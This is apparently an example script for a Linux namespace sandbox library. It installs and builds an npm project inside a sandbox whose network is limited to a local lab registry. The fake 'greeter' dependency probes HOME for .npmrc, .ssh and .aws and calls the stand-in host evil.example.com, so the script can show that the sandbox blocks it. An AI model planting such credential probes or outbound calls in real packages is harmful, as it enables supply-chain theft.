/**
 * A build with npm, whose packages nobody has read: it can write its project, and reach the registry and no other host.
 * It has no token, no ~/.npmrc, and no variable of this process's.
 *
 * The registry is a small one of this process's, in a lab. With a real one, the sandbox needs a single line:
 * `network: { allow: ['registry.npmjs.org:443'] }`.
 *
 *     npx tsx examples/build_npm.ts
 */
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { type Server, createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Sandbox, hostUserland } from 'linux-ns';
import { type Host, Lab } from 'linux-ns/lab';
import { fail } from './command-line';

const REGISTRY = 'http://registry.example.com';

const MANIFEST = { name: 'greeter', version: '1.0.0' };

/** A package that greets, and tells what it has found out when it was loaded. */
const GREETER = {
  'package.json': JSON.stringify(MANIFEST),
  'index.js': `
    const { existsSync, writeFileSync } = require('node:fs');
    exports.greet = async () => {
      const secrets = ['.npmrc', '.ssh', '.aws'].filter((name) => existsSync(process.env.HOME + '/' + name));
      const sent = await fetch('http://evil.example.com/').then((r) => (r.ok ? 'sent' : 'refused'), () => 'refused');
      writeFileSync('greeting', 'hello, ' + sent + ', ' + secrets.length + ' secrets');
    };`,
};

const PROJECT = {
  'package.json': JSON.stringify({ dependencies: { greeter: '^1.0.0' }, scripts: { build: 'node build.js' } }),
  'build.js': "require('greeter').greet();",
};

function write(folder: string, files: Readonly<Record<string, string>>): void {
  mkdirSync(folder, { recursive: true });
  for (const [name, text] of Object.entries(files)) writeFileSync(join(folder, name), text);
}

/** Knows one package: its description, and its archive. */
function createRegistry(work: string): Server {
  write(join(work, 'package'), GREETER);
  const archive = execFileSync('tar', ['-czf', '-', '-C', work, 'package']);
  const version = { ...MANIFEST, dist: { tarball: `${REGISTRY}/greeter.tgz` } };
  const description = { name: 'greeter', 'dist-tags': { latest: '1.0.0' }, versions: { '1.0.0': version } };
  return createServer((request, response) => {
    if (request.url === '/greeter') response.end(JSON.stringify(description));
    else if (request.url === '/greeter.tgz') response.end(archive);
    else response.writeHead(404).end();
  });
}

/** The host from which connections are made. The registry and another server are beside it. */
async function createInternet(lab: Lab, registry: Server): Promise<Host> {
  const internet = await lab.addNetwork('internet', { subnet: '93.184.216.0/24' });
  const [gate, server] = await lab.addHosts(['gate', 'server'], { on: internet });
  for (const name of ['registry.example.com', 'evil.example.com']) lab.dns.set(name, [...server.addresses]);
  await server.listen(registry, 80);
  return gate;
}

async function main(): Promise<void> {
  const work = mkdtempSync(join(tmpdir(), 'build-npm-'));
  const project = join(work, 'project');
  try {
    write(project, PROJECT);
    await using lab = await Lab.create();
    const outside = await createInternet(lab, createRegistry(work));
    const userland = hostUserland({ writable: project, toolchains: true });
    await using box = await Sandbox.create({
      ...userland,
      env: { ...userland.env, npm_config_registry: REGISTRY, npm_config_update_notifier: 'false' },
      network: { allow: ['registry.example.com:80'], outside },
    });
    for (const command of ['npm install --no-audit --no-fund', 'npm run --silent build']) {
      const { verdict, stdout, stderr } = await box.run('sh', ['-c', command], { limits: { wall: 60_000 } });
      console.log(`$ ${command}\n${verdict}`);
      if (verdict !== 'ok') throw new Error(stdout + stderr);
    }
    const installed = readdirSync(join(project, 'node_modules')).filter((name) => !name.startsWith('.'));
    console.log(`node_modules has ${installed.join(' ')}`);
    console.log(`it says: ${readFileSync(join(project, 'greeting'), 'utf8')}`);
    for (const { decision, name, port } of box.egress?.requests.recent ?? []) {
      if (decision === 'deny') console.log(`denied: ${name}:${port}`);
    }
  } finally {
    rmSync(work, { recursive: true });
  }
}

main().catch(fail);
